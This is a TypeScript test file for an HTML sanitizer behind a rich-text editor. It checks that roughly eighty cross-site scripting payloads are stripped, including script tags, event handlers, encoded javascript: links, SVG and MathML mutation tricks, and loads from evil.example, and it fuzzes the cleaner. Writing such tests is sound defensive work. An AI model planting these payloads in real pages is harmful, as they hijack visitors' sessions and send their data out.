import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanRichText } from "./rich-text.ts";

/** Everything that could run, load, style or leave, as a browser would meet it in a tag. */
function tagsOf(html: string) {
  return [...html.matchAll(/<\/?([^\s/>]*)([^>]*)>/g)].map(
    ([, name = "", rest = ""]) => ({
      name: name.toLowerCase(),
      attributes: [...rest.matchAll(/([^\s=/]+)="([^"]*)"/g)].map(
        ([, key = "", value = ""]) => [key.toLowerCase(), value] as const,
      ),
      rest: rest.replaceAll(/[^\s=/]+="[^"]*"/g, "").replaceAll(/[\s/]/g, ""),
    }),
  );
}

const tags = new Set(
  "p br h2 h3 h4 blockquote ul ol li strong em u s span a img".split(" "),
);
const attributes = new Set(
  "href title rel src alt width height lang".split(" "),
);

function expectHarmless(html: string) {
  for (const { name, attributes: given, rest } of tagsOf(html)) {
    expect(tags).toContain(name);
    expect(rest).toBe("");
    for (const [key, value] of given) {
      expect(attributes).toContain(key);
      if (key === "href")
        expect(value).toMatch(/^(https?:|mailto:|tel:|\/|#|\?|[\w.-]*$)/i);
      if (key === "src") expect(value).toMatch(/^\/(images|uploads)\/[\w.-]+$/);
    }
  }
  expect(html).not.toMatch(/<!--|<!\[CDATA|<\?/);
}

const attacks = [
  "<script>alert(1)</script>",
  "<script src=//evil.example/x.js></script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=/uploads/a.webp onerror=alert(1)>",
  "<img/src='/uploads/a.webp'onload=alert(1)>",
  "<img src=https://tracker.example/p.gif>",
  "<img src=//tracker.example/p.gif>",
  "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
  "<img src='/uploads/../api/auth'>",
  "<img srcset='https://tracker.example/p.gif 1x' src=/uploads/a.webp>",
  "<img src=/uploads/a.webp style='position:fixed'>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href=vbscript:msgbox(1)>x</a>",
  "<a href=data:text/html,<script>alert(1)</script>>x</a>",
  "<a href=blob:https://x>x</a>",
  "<a href=file:///etc/passwd>x</a>",
  "<a href='https://x' onclick=alert(1)>x</a>",
  "<a href='https://x' target=_blank rel=opener>x</a>",
  "<a href='https://x' style='position:fixed;inset:0'>x</a>",
  "<a href='https://x' class=admin id=main name=x>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='\\\\evil.example'>x</a>",
  "<a xlink:href=javascript:alert(1)>x</a>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<xmp><script>alert(1)</script></xmp>",
  "<xmp></xmp><script>alert(1)</script>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
  "<noframes></noframes><script>alert(1)</script>",
  "<plaintext><script>alert(1)</script>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
  "<title><img title='</title><img src=x onerror=alert(1)>'>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<style><!--</style><script>alert(1)//--></script>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x.swf></object><embed src=x.swf>",
  "<form action=https://evil.example><input name=password></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<template><script>alert(1)</script></template>",
  "<slot onslotchange=alert(1)></slot>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<!--><script>alert(1)</script>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<!doctype html><html onload=alert(1)><body onload=alert(1)>x",
  "<p onmouseover=alert(1)>x</p>",
  "<p style='background:url(https://tracker.example)'>x</p>",
  "<p class=x id=__proto__ data-x=1 contenteditable>x</p>",
  "<div><table><tr><td background=javascript:alert(1)>x</table></div>",
  "<p lang='es\"><script>alert(1)</script>'>x</p>",
  "<img alt='\"><script>alert(1)</script>' src=/uploads/a.webp>",
  "<a title='</a><script>alert(1)</script>' href=https://x>x</a>",
  "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
  "<p>\u003c/p><script\u2028>alert(1)</script>",
  "<<script>alert(1)//<</script>",
  "<p <script>alert(1)</script>>",
];

test.each(attacks)("%s leaves nothing that could do harm", (html) => {
  expectHarmless(cleanRichText(html));
});

const written = [
  "<h2>Título</h2><p>Sí, <strong>mucho</strong> <em>más</em> <u>aquí</u> <s>no</s></p>",
  "<ul><li>uno<ol><li>dos</li></ol></li></ul><blockquote><p>tres</p></blockquote>",
  '<p><a href="https://www.cdc.gov/hpv" title="CDC" rel="noopener noreferrer nofollow">CDC</a></p>',
  '<p><a href="mailto:clinic@example.org" rel="noopener noreferrer nofollow">e</a> <a href="tel:+15551234567" rel="noopener noreferrer nofollow">t</a></p>',
  '<p><img src="/uploads/1XYRs6VpLTuCSmC3oFL8rw.webp" alt="Una enfermera" width="40" height="30" /></p>',
  '<p><span lang="es">¿Por qué?</span> 5 &lt; 6 &amp; más<br />fin</p>',
];

describe("what the editor makes", () => {
  test.each(written)("%s stays as it is", (html) => {
    expect(cleanRichText(html)).toBe(html);
  });
});

test("cleaning what is clean changes nothing, whatever it was", () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks, ...written),
    fc.string({ unit: "binary" }),
    fc.constantFrom(
      "<",
      ">",
      '"',
      "'",
      "&",
      "&#",
      "<!--",
      "-->",
      "</p>",
      "<p ",
    ),
  );
  const anything = fc
    .array(piece, { maxLength: 12 })
    .map((all) => all.join(""));
  fc.assert(
    fc.property(anything, (html) => {
      const once = cleanRichText(html);
      expectHarmless(once);
      expect(cleanRichText(once)).toBe(once);
    }),
  );
});

test("a text that nests without end is done all the same", () => {
  for (const tag of ["b", "p", "blockquote", "ul", "span", "a href=/"])
    expectHarmless(cleanRichText(`<${tag}>`.repeat(50_000 / (tag.length + 2))));
});
